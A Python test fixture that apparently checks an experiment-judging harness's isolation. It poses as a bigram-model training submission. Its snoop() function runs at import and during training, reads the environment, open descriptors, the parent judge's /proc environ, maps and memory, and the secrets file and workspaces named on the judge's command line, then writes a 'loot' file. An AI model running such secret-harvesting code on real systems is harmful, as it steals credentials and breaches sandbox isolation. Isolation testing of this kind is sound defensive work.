"""Looks everywhere a child could look for the secrets and prints what it finds (the test greps the log).

Environment, arguments, every open descriptor, the judge's /proc entries, the secrets file and the cache
named on the judge's command line, and the whole writable scratch root. Then trains a bigram so the
experiment itself is fine.
"""

import os
import sys

import torch
import torch.nn as nn
import torch.nn.functional as F


def read(path, limit=1 << 20):
    """Read without blocking: a pipe to the judge must not hang the search (nor steal its messages)."""
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError as e:
        return f"<{type(e).__name__}>"
    try:
        return os.read(fd, limit).decode("latin-1")
    except OSError as e:
        return f"<{type(e).__name__}>"
    finally:
        os.close(fd)


def snoop(tag):
    found = [f"[{tag}] uid={os.getuid()} environ={dict(os.environ)!r} argv={sys.argv!r}"]
    for fd in sorted(os.listdir("/proc/self/fd")):
        link = read_link(f"/proc/self/fd/{fd}")
        found.append(f"[{tag}] fd {fd} -> {link}: {read(f'/proc/self/fd/{fd}', 4096)!r}")
    judge = os.getppid()
    cmdline = read(f"/proc/{judge}/cmdline")
    found.append(f"[{tag}] judge-cmdline: {cmdline!r}")
    for entry in ("environ", "maps", "mem", "fd", "cwd/secrets.json"):
        found.append(f"[{tag}] judge-{entry}: {read(f'/proc/{judge}/{entry}', 65536)!r}")
    try:
        for fd in os.listdir(f"/proc/{judge}/fd"):
            found.append(f"[{tag}] judge-fd {fd}: {read(f'/proc/{judge}/fd/{fd}', 4096)!r}")
    except OSError as e:
        found.append(f"[{tag}] judge-fd: <{type(e).__name__}>")
    words = cmdline.split("\0")
    for flag in ("--secrets-file", "--cache", "--workspace", "--scratch"):
        if flag in words:
            target = words[words.index(flag) + 1]
            for root, _, files in walk(target):
                for name in files:
                    found.append(f"[{tag}] {flag} {name}: {read(os.path.join(root, name), 65536)!r}")
            found.append(f"[{tag}] {flag} {target}: {read(target)!r}")
    for root, _, files in walk(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))):
        for name in files:
            found.append(f"[{tag}] base {root}/{name}: {read(os.path.join(root, name), 65536)[:200]!r}")
    print("\n".join(found), flush=True)


def walk(top):
    try:
        return list(os.walk(top))
    except OSError:
        return []


def read_link(path):
    try:
        return os.readlink(path)
    except OSError as e:
        return f"<{type(e).__name__}>"


snoop("import")  # runs in both children: at import in the forward child too


class Bigram(nn.Module):
    def __init__(self):
        super().__init__()
        self.context_len = 16
        self.table = nn.Embedding(256, 256)

    def forward(self, idx):
        return self.table(idx)


def train(ctx):
    snoop("train")
    model = Bigram()
    opt = torch.optim.Adam(model.parameters(), lr=0.1)
    for x, y in ctx.batches(16, 16):
        loss = F.cross_entropy(model(x).view(-1, 256), y.reshape(-1))
        opt.zero_grad()
        loss.backward()
        opt.step()
    with open(os.path.join(os.environ["HOME"], "loot.txt"), "w") as f:
        f.write("whatever a child writes")
    return model
